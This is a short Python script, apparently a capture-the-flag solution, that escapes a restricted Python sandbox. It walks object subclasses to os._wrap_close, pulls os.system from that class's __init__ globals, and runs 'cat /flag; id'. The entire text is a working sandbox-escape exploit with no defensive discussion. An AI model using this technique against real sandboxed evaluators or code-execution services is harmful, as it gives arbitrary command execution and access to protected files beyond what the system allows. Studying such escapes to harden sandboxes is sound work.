# technique: walk object.__subclasses__() to os._wrap_close, use __init__.__globals__ to call system
def find_os_globals():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise SystemExit("no luck")

g = find_os_globals()
g["system"]("cat /flag; id")
